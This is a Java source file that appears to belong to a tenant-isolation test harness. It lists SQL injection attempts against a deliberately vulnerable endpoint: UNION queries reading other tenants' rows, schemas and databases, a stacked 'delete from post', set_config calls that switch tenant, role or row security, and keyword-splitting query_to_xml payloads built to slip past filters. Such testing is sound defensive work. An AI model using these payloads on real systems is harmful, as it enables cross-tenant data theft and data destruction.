package io.tenancy.example.saas.attack;

import static io.tenancy.example.saas.ground.Home.DATABASE;
import static io.tenancy.example.saas.ground.Home.ROWS;
import static io.tenancy.example.saas.ground.Home.SCHEMA;

import java.util.List;

/** Puts SQL into the statement of the careless endpoint, which knows nothing of tenants. */
final class SqlAttempts {

    private static final String OPEN = "' union select ";
    private static final String CLOSE = " where '' like '";

    private SqlAttempts() {}

    static List<Attempt> all() {
        return List.of(
                Attempt.of("SQL: a condition that is always true", scene -> scene.inject("' or true or title like '")),
                Attempt.of(
                        "SQL: a condition on the victim",
                        scene -> scene.inject("' or tenant_id = '" + scene.victim() + "' or title like '")),
                Attempt.of(
                        "SQL: another table", scene -> scene.inject(OPEN + "tenant_id || email from app_user" + CLOSE)),
                Attempt.of(
                        "SQL: the victim's schema",
                        scene -> scene.inject(
                                OPEN + "tenant_id || title from " + scene.loot().schema() + ".post" + CLOSE)),
                Attempt.of(
                        "SQL: the victim's database",
                        scene -> scene.inject(
                                OPEN + "tenant_id || title from " + scene.loot().database() + ".app.post" + CLOSE)),
                Attempt.of(
                        "SQL: the victim's audit trail",
                        scene -> scene.inject(OPEN + "tenant_id || cast(after as text) from audit_event" + CLOSE)),
                Attempt.of("SQL: the list of tenants", scene -> scene.inject(OPEN + "id from tenancy.tenant" + CLOSE)),
                Attempt.of("SQL: a second statement", scene -> scene.inject("'; delete from post --")),
                Attempt.of(
                        "SQL: a statement that binds",
                        scene -> scene.inject(
                                "'; set tenancy.tenant_id = '" + scene.victim() + "'; select title from post --")),
                Attempt.of(
                        "SQL: a function that binds",
                        scene -> scene.inject(OPEN + "set_config('tenancy.tenant_id', '" + scene.victim()
                                + "', true) || title from post" + CLOSE)),
                Attempt.of(
                        "SQL: a function that takes a role",
                        scene -> scene.inject(
                                OPEN + "set_config('role', '" + scene.loot().role() + "', true)" + CLOSE)),
                Attempt.of(
                        "SQL: row security off",
                        scene -> scene.inject(OPEN + "set_config('row_security', 'off', true)" + CLOSE)),
                Attempt.of(
                                "SQL: hidden text that binds",
                                scene -> scene.inject(hidden(
                                        setting("tenancy.tenant_id", scene.victim()),
                                        "select tenant_id, title from post")))
                        .concededIn(ROWS),
                Attempt.of(
                                "SQL: hidden text that takes a role",
                                scene -> scene.inject(hidden(
                                        setting("role", scene.loot().role()),
                                        "select tenant_id, title from "
                                                + scene.loot().schema() + ".post")))
                        .concededIn(SCHEMA),
                Attempt.of(
                                "SQL: names in the catalog",
                                scene -> scene.inject(OPEN
                                        + "'names: ' || datname || coalesce((select string_agg(nspname, ' ') from pg_namespace), '')"
                                        + " from pg_database" + CLOSE))
                        .concededIn(SCHEMA, DATABASE));
    }

    /** The words that are looked for are put together by the server. */
    private static String setting(String name, String value) {
        int half = name.length() / 2;
        return "select set' || '_config(''" + name.substring(0, half) + "'' || ''" + name.substring(half) + "'', ''"
                + value + "'', true)";
    }

    private static String hidden(String first, String second) {
        return OPEN + "cast(query_to_xml('" + first + "', true, false, '') as text) || cast(query_to_xml('" + second
                + "', true, false, '') as text)" + CLOSE;
    }
}
